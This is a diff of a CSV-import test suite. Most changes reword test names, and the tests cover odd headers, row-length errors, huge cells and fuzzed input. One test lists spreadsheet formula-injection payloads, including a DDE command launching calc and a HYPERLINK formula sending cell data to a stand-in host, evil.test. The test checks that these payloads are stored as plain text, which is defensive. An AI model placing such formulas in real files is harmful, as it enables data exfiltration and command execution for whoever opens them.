@@ -75,19 +75,19 @@ describe('a file is taken', () => {
     expect([row.error, row.rawRow]).toEqual([null, ROW]);
   });
 
-  it('with columns that nobody knows, a thousand even', async ({ acme }) => {
+  it('with unknown columns, even a thousand', async ({ acme }) => {
     const others = Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`column ${n}`, `cell ${n}`]));
     const { row } = await acme.work(csvOf({ ...others, ...ROW }));
     expect([row.error, row.rawRow]).toEqual([null, { ...others, ...ROW }]);
     expect(row.normalizedPayload).toMatchObject({ data: { TWITTER: { text: 'It is here' } } });
   });
 
-  it('with a column twice, of which the last counts', async ({ acme }) => {
+  it('with a repeated column, of which the last counts', async ({ acme }) => {
     const { row } = await acme.work(`title,${HEADER}\nFirst,${LINE}\n`);
     expect([row.rawRow['title'], row.normalizedPayload]).toMatchObject(['Spring launch', { title: 'Spring launch' }]);
   });
 
-  it('with columns that have no name, or a strange one', async ({ acme }) => {
+  it('with columns without a name, or with an unusual one', async ({ acme }) => {
     const { row } = await acme.work(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
     expect(row.error).toBeNull();
     expect(JSON.stringify(row.rawRow)).toBe(
@@ -95,7 +95,7 @@ describe('a file is taken', () => {
     );
   });
 
-  it('with a line that stops early', async ({ acme }) => {
+  it('with a short line', async ({ acme }) => {
     const { text: _, ...rest } = ROW;
     const { rows } = await acme.work(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
     expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
@@ -104,18 +104,15 @@ describe('a file is taken', () => {
     ]);
   });
 
-  it.for([',late', ',', ',,'])(
-    'with a line that goes on behind the last column, even if nothing stands there: its row fails',
-    async (more, { acme }) => {
-      const { rows } = await acme.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
-      const cells = 6 + more.split(',').length - 1;
-      expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
-        [null, ROW],
-        [`The row has ${cells} cells, but the header names 6 columns. A cell that holds a comma must be quoted.`, ROW],
-        [null, ROW],
-      ]);
-    },
-  );
+  it.for([',late', ',', ',,'])('with a line longer than the header, even with empty cells: its row fails', async (more, { acme }) => {
+    const { rows } = await acme.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
+    const cells = 6 + more.split(',').length - 1;
+    expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
+      [null, ROW],
+      [`The row has ${cells} cells, but the header names 6 columns. A cell that holds a comma must be quoted.`, ROW],
+      [null, ROW],
+    ]);
+  });
 
   it.for(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
     'with the formula %j, which is text',
@@ -133,7 +130,7 @@ describe('a file is taken', () => {
     expect((await acme.post(row.postId)).data.TWITTER?.text).toBe(text);
   });
 
-  it('with a cell of 10 MB: as a text its row fails in few words, elsewhere it does not count', async ({ acme }) => {
+  it('with a cell of 10 MB: as a text its row fails with a short message, elsewhere it is ignored', async ({ acme }) => {
     const huge = 'x'.repeat(10 * 1_048_576);
     const { rows, entity } = await acme.work(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
     expect(rows.map(({ error }) => error)).toEqual(['data.TWITTER.text must be at most 25000 characters long', null, null]);
@@ -152,7 +149,7 @@ describe('whatever the bytes', () => {
       return file;
     });
 
-  it('the file is taken, and its import ends', async ({ acme }) => {
+  it('the file is accepted, and its import ends', async ({ acme }) => {
     await fc.assert(
       fc.asyncProperty(fc.oneof(spoilt, fc.uint8Array({ maxLength: 300 })), async file => {
         const { entity, rows } = await acme.work(file);
@@ -173,14 +170,14 @@ const CORPUS = createRequire(import.meta.url)
 const SPECTRUM = readdirSync(`${CORPUS}csvs`).map(name => name.replace('.csv', ''));
 
 describe('the files of csv-spectrum', () => {
-  it('are there', () => expect(SPECTRUM).toHaveLength(12));
+  it('are present', () => expect(SPECTRUM).toHaveLength(12));
 
-  it.for(SPECTRUM)('%s: is no import', async (name, { acme }) => {
+  it.for(SPECTRUM)('%s: is not an import', async (name, { acme }) => {
     const { entity } = await acme.work(readFileSync(`${CORPUS}csvs/${name}.csv`));
     expect([entity.status, entity.error]).toEqual(['FAILED', NO_COLUMNS]);
   });
 
-  it.for(SPECTRUM)('%s: behind the required columns is read as it was meant', async (name, { acme }) => {
+  it.for(SPECTRUM)('%s: is read as intended after the required columns', async (name, { acme }) => {
     const text = readFileSync(`${CORPUS}csvs/${name}.csv`, 'utf8');
     const [header] = /^.+/.exec(text) ?? [];
     const lineEnd = text.includes('\r\n') ? '\r\n' : '\n';
